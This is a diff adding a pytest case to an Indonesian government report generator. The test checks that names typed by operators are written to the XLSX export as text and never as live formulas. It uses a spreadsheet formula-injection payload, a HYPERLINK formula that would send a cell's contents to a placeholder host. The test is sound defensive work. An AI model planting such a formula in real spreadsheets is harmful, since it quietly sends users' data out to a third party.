@@ -151,3 +151,20 @@ def test_missing_chromium_is_reported(monkeypatch: pytest.MonkeyPatch, html: str
     assert render_pdf.cari_chromium() is None
     with pytest.raises(render_pdf.ChromiumTidakTersediaError):
         render_pdf.pdf(html)
+
+
+RUMUS = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+
+
+def test_xlsx_writes_names_as_text_never_as_formulas(laporan_2024: LaporanLkip) -> None:
+    # Names come from what operators type into plans and budgets.
+    racun = laporan_2024.model_copy(deep=True)
+    sasaran = racun.tabel_iku.sasaran[0]
+    sasaran.nama = sasaran.indikator[0].nama = RUMUS
+    racun.anggaran[0].baris[0].nama = racun.ringkasan_anggaran.baris[0].nama = RUMUS
+    racun.tabel_iku.catatan.append(RUMUS)
+    wb = load_workbook(BytesIO(render_xlsx.render(racun)))
+    sel = [c for ws in wb for baris in ws.iter_rows() for c in baris]
+    teks = [c for c in sel if isinstance(c.value, str) and RUMUS in c.value]
+    assert len(teks) >= 5 and {c.data_type for c in teks} == {"s"}
+    assert [c.coordinate for c in sel if c.data_type == "f"] == []
